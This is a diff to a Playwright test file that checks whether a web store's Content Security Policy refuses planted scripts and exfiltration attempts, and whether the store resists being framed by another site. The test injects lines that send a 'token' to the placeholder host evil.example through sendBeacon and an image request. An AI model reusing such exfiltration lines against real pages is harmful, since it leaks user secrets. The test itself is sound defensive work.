@@ -1,3 +1,6 @@
+import { once } from 'node:events'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import Database from 'better-sqlite3'
 import type { BrowserContext } from '@playwright/test'
 import { expect, type Somebody, test } from './store.ts'
@@ -126,7 +129,13 @@ test.describe('a script that somebody planted', () => {
     const page = await browse()
     const { ran, abroad } = await watch(page.context())
     await page.goto('/items')
+    const forbidden: string[] = []
+    await page.exposeFunction('forbid', (what: string) => void forbidden.push(what))
     await page.evaluate(() => {
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
+        const [site = ''] = /^\w+:\/\/[^/]+|^[\w-]+/.exec(blockedURI) ?? []
+        Reflect.get(window, 'forbid')(`${effectiveDirective} ${site}`)
+      })
       const add = (name: string, set: Record<string, string>, text = '') => {
         const one = document.createElement(name)
         for (const [key, value] of Object.entries(set)) one.setAttribute(key, value)
@@ -146,18 +155,47 @@ test.describe('a script that somebody planted', () => {
       navigator.sendBeacon('https://evil.example/take', 'token')
       new Image().src = 'https://evil.example/take?token'
     })
-    await page.waitForTimeout(500)
+    // Of each of them the browser says that it was refused, and by what.
+    await expect
+      .poll(() => forbidden.toSorted())
+      .toEqual([
+        'base-uri https://evil.example',
+        'connect-src https://evil.example',
+        'connect-src https://evil.example',
+        'img-src https://evil.example',
+        'script-src-attr inline',
+        'script-src-elem data',
+        'script-src-elem https://evil.example',
+        'script-src-elem inline',
+        'script-src-elem inline',
+        'style-src-elem https://evil.example',
+      ])
     expect([ran, abroad]).toEqual([[], []])
   })
 
   test('nor does another site get the store into a frame', async ({ browse, store }) => {
     const page = await browse()
-    await page.route('http://elsewhere.example/', (route) =>
-      route.fulfill({ contentType: 'text/html', body: `<iframe src="${store.address}/"></iframe>` }),
+    // Of this machine too: a page from abroad is kept from here by the browser itself, whatever the store says.
+    const frames = ['/', '/faq'].map(
+      (path) => `<iframe src="${store.address}${path}" onload="document.body.dataset.loaded += '.'"></iframe>`,
     )
-    await page.goto('http://elsewhere.example/')
-    await page.waitForTimeout(1000)
-    const framed = page.frames().find((frame) => frame.url().startsWith(store.address))
-    expect(framed === undefined || (await framed.locator('main').count()) === 0).toBe(true)
+    const elsewhere = createServer((_, response) => {
+      response.setHeader('content-type', 'text/html').end(`<body data-loaded="">${frames.join('')}`)
+    })
+    elsewhere.listen(0, '127.0.0.1')
+    await once(elsewhere, 'listening')
+    // One that forbids nothing shows that a frame can be seen here.
+    await page.route('**/faq', async (route) => {
+      const answer = await route.fetch()
+      await route.fulfill({ response: answer, headers: { 'content-type': 'text/html' } })
+    })
+    const asked = page.waitForResponse(`${store.address}/`)
+    await page.goto(`http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`)
+    await asked
+    await expect(page.locator('body'), 'both have come to their end').toHaveAttribute('data-loaded', '..')
+    const mains = page.locator('iframe').nth(1).contentFrame().getByRole('main')
+    await expect(mains.first(), 'the one that may be there').toBeVisible()
+    await expect(page.locator('iframe').nth(0).contentFrame().getByRole('main')).toHaveCount(0)
+    elsewhere.close()
   })
 })
